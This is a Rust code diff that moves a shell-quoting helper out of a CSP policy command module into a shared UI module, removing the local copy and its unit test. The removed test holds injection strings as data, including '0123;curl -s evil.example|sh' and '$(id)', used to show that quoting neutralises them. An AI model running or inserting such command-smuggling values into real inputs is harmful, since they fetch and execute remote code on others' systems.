@@ -18,6 +18,7 @@ use crate::policy::directives::Policy;
 use crate::policy::snippet::{Endpoint, HeaderSet, Server, render};
 use crate::report::{ReportType, Timestamp, parse_csp_group, parse_site};
 use crate::store::{RecentQuery, ReportStore, TopQuery};
+use crate::ui::shell::shell_quote;
 
 /// Recent CSP reports read to compare the policies they carry with the owner's.
 pub const POLICY_SAMPLE: usize = 1000;
@@ -278,35 +279,4 @@ pub async fn run(args: PolicyArgs) -> Result<()> {
         shell_quote(&site)
     );
     Ok(())
-}
-
-/// `s` as one shell word: as it is when it holds only characters no shell reads as syntax,
-/// else in single quotes (a `'` written `'\''`).
-pub(crate) fn shell_quote(s: &str) -> String {
-    let plain = !s.is_empty()
-        && s.bytes()
-            .all(|b| b.is_ascii_alphanumeric() || b"._:/=@%+-,".contains(&b));
-    if plain {
-        s.to_owned()
-    } else {
-        format!("'{}'", s.replace('\'', r"'\''"))
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::shell_quote;
-
-    #[test]
-    fn shell_words_cannot_carry_a_second_command() {
-        assert_eq!(shell_quote("example.com"), "example.com");
-        assert_eq!(shell_quote("0123456789abcdef"), "0123456789abcdef");
-        assert_eq!(
-            shell_quote("0123;curl -s evil.example|sh"),
-            "'0123;curl -s evil.example|sh'"
-        );
-        assert_eq!(shell_quote("a'b"), r"'a'\''b'");
-        assert_eq!(shell_quote("$(id)"), "'$(id)'");
-        assert_eq!(shell_quote(""), "''");
-    }
 }
